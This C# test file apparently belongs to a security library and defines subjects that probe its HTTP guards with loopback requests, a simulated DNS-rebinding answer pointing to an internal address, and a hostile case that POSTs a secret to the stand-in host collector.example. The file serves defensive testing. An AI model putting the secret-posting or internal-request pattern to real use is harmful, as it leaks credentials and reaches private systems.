using System.Diagnostics;
using System.Text;
using FunctionShield.Guards.Hooks;
using FunctionShield.Guards.Http;
using FunctionShield.Guards.Tests.Http;

namespace FunctionShield.Faults.Tests.Subjects;

/// <summary>Requests to a host inside, which the code fixed or an input chose.</summary>
internal abstract class HttpSubject(string name, Traits traits) : Subject(name, traits)
{
    public override string Input => $"127.0.0.1:{Server.Value.Port}";

    protected static Lazy<LoopbackServer> Server { get; } = new(() => new LoopbackServer());

    private static async Task<Outcome> GetAsync(HttpClient client, string url, Use use)
    {
        using (client)
        {
            if (use.IsDisposed)
                client.Dispose();
            await client.GetStringAsync(new Uri(url), use.Cancellation);
            return Outcome.Passed;
        }
    }

    /// <summary>The handler of one client.</summary>
    internal sealed class Handler() : HttpSubject("HttpClient handler", Traits.Cancels | Traits.Disposes)
    {
        public override Task<Outcome> RunAsync(Use use) =>
            GetAsync(new HttpClient(new ShieldHttpHandler(new CannedTransport("ok"), use.Shield)), $"http://{Input}/", use);
    }

    /// <summary>A client that nobody decorated.</summary>
    internal sealed class Hooked() : HttpSubject("HttpClient (hook)", Traits.Cancels | Traits.Disposes)
    {
        public override Task<Outcome> RunAsync(Use use) => GetAsync(new HttpClient(), Server.Value.Url, use);
    }

    /// <summary>A client whose requests raise no event: only its connection is seen.</summary>
    internal sealed class Connection() : HttpSubject("connection (hook)", Traits.Cancels | Traits.Disposes)
    {
        public override Task<Outcome> RunAsync(Use use) =>
            GetAsync(new HttpClient(new SocketsHttpHandler { ActivityHeadersPropagator = null }), Server.Value.Url, use);
    }

    /// <summary>A resolver's answer, raised by hand: public names that lead inside are not to be had in a test.</summary>
    internal sealed class Names() : HttpSubject("name resolution (hook)", Traits.None)
    {
        private static readonly ActivitySource Resolver = new(NameHook.Source);

        public override string Input => "https://rebind.example.org/";

        public override Task<Outcome> RunAsync(Use use)
        {
            using Activity lookup = Resolver.StartActivity("Experimental.System.Net.NameResolution.DnsLookup")!;
            lookup.SetTag("dns.question.name", use.Hostile ? "rebind.example.org" : "db.example.org");
            lookup.SetTag("dns.answers", (string[])["10.1.2.3"]);
            lookup.Stop();
            return Task.FromResult(Outcome.Passed);
        }
    }

    /// <summary>What a request carries.</summary>
    internal sealed class Secrets() : HttpSubject("request secrets", Traits.Cancels | Traits.Disposes)
    {
        public override string Input => "tea";

        public override async Task<Outcome> RunAsync(Use use)
        {
            using var client = new HttpClient(new ShieldHttpHandler(new CannedTransport("ok"), use.Shield));
            using var content = new ByteArrayContent(Encoding.UTF8.GetBytes(use.Hostile ? "key=" + Rig.Secret : "key=none of them at all"));
            if (use.IsDisposed)
                content.Dispose();
            using HttpResponseMessage response = await client.PostAsync(new Uri("https://collector.example/"), content, use.Cancellation);
            return Outcome.Passed;
        }
    }
}
